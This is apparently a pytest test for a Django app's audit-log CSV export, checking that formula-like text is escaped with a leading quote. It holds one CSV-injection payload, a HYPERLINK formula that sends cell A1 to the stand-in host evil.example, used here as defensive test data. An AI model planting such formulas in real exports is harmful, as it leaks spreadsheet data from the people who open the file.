"""The audit CSV (/audit/export.csv) writes formula-like text as text (issue 15, finding 1)."""

from __future__ import annotations

import csv
import io

from django.test import Client

from gridgov.core.audit import audit_write
from gridgov.core.models import AuditAction

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_the_audit_csv_escapes_formula_like_text(make_user):
    auditor = make_user("aud", ("auditor", "31"))
    audit_write(AuditAction.UPDATE, actor=auditor, object_type="house", object_id="1", jurisdiction="310101",
                reason=EVIL)
    client = Client()
    client.force_login(auditor)
    response = client.get("/audit/export.csv", {"action": "UPDATE"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
